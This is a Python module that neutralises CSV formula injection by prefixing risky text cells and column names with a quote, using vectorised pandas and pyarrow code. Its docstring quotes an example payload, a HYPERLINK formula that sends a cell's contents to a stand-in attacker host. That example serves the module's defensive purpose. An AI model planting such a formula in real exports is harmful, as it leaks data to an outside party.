"""CSV cells that a spreadsheet would run as formulas, made inert.

A participant's answer ``=HYPERLINK("https://evil.example/?"&A1, "Click")`` written verbatim
into a CSV becomes a live formula when a researcher opens the file in Excel, LibreOffice or
Google Sheets. Following the OWASP advice (CSV injection), a text cell that starts with ``=``,
``+``, ``-``, ``@``, a tab or a carriage return gets a single quote in front of it. Only text
is touched: numeric columns (and numbers in a mixed column) are written as they are, so
``-1.5`` in a weight or numeric-answer column stays a number; so is text that is nothing but a
number (``-1.5``, ``+3``, ``-2e-3``: metadata is text by contract), which a spreadsheet reads
as that number, never as a formula. Column names are text too.

The escaped file is for people; a program that reads the CSV back wants it raw, so every
export takes ``formula_escape=False`` (``raw`` on the pages, the API and the commands).

Pure: pandas and pyarrow only, vectorised (no Python per row), since vote tables run to
millions of rows.
"""

from __future__ import annotations

import re
from typing import Any

import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.compute as pc

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
_PATTERN = r"^([=+\-@\t\r])"
# A plain decimal number, whole string (RE2's and Python's ``$`` differ on a final newline,
# hence ``fullmatch`` on the Python side).
_NUMBER = r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?"
_NUMBER_RE = re.compile(_NUMBER)


def escape_cell(value: str) -> str:
    """One text cell (a column name, say) as a spreadsheet should read it."""
    if value.startswith(FORMULA_PREFIXES) and not _NUMBER_RE.fullmatch(value):
        return "'" + value
    return value


def _escape_names(names: list[Any]) -> list[Any]:
    return [escape_cell(n) if isinstance(n, str) else n for n in names]


def _escape_series(col: pd.Series) -> pd.Series:
    if isinstance(col.dtype, pd.CategoricalDtype):
        col = col.astype(object)
    if not (pd.api.types.is_object_dtype(col.dtype) or pd.api.types.is_string_dtype(col.dtype)):
        return col
    # ``.str`` answers NaN for anything that is not a string (a Decimal, a float, a list), so
    # numbers in a mixed column are never matched.
    hit = np.flatnonzero(
        col.str.startswith(FORMULA_PREFIXES, na=False).fillna(False).to_numpy(bool)
    )
    if not len(hit):
        return col
    cells = col.iloc[hit]
    hit = hit[~cells.str.fullmatch(_NUMBER, na=False).fillna(False).to_numpy(bool)]
    col = col.copy()
    col.iloc[hit] = ("'" + col.iloc[hit]).to_numpy()
    return col


def escape_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells and column names cannot start a formula."""
    out = pd.DataFrame({i: _escape_series(frame.iloc[:, i]) for i in range(frame.shape[1])})
    out.index = frame.index
    out.columns = _escape_names(list(frame.columns))
    return out


def _escape_strings(arr: pa.Array | pa.ChunkedArray) -> pa.Array | pa.ChunkedArray:
    hit = pc.match_substring_regex(arr, pattern=_PATTERN)
    if not pc.any(hit).as_py():
        return arr  # the usual case: one pass over the column
    number = pc.match_substring_regex(arr, pattern=f"^{_NUMBER}$")
    escaped = pc.replace_substring_regex(
        arr, pattern=_PATTERN, replacement=r"'\1", max_replacements=1
    )
    # Null cells give a null condition and stay null.
    return pc.if_else(pc.and_not(hit, number), escaped, arr)


def _escape_column(col: pa.ChunkedArray) -> pa.ChunkedArray:
    t = col.type
    if pa.types.is_string(t) or pa.types.is_large_string(t):
        return _escape_strings(col)
    if pa.types.is_dictionary(t) and (
        pa.types.is_string(t.value_type) or pa.types.is_large_string(t.value_type)
    ):
        # Escape the (few) dictionary values, not the (many) rows. Two values may now be
        # equal ("'=a" escaped and a literal "'=a"), which a dictionary allows.
        return pa.chunked_array(
            [
                pa.DictionaryArray.from_arrays(c.indices, _escape_strings(c.dictionary))
                for c in col.chunks
            ],
            type=t,
        )
    return col


def escape_table(table: pa.Table) -> pa.Table:
    """``table`` with its string cells and column names escaped; other types untouched."""
    return pa.Table.from_arrays(
        [_escape_column(table.column(i)) for i in range(table.num_columns)],
        names=_escape_names(table.column_names),
    )
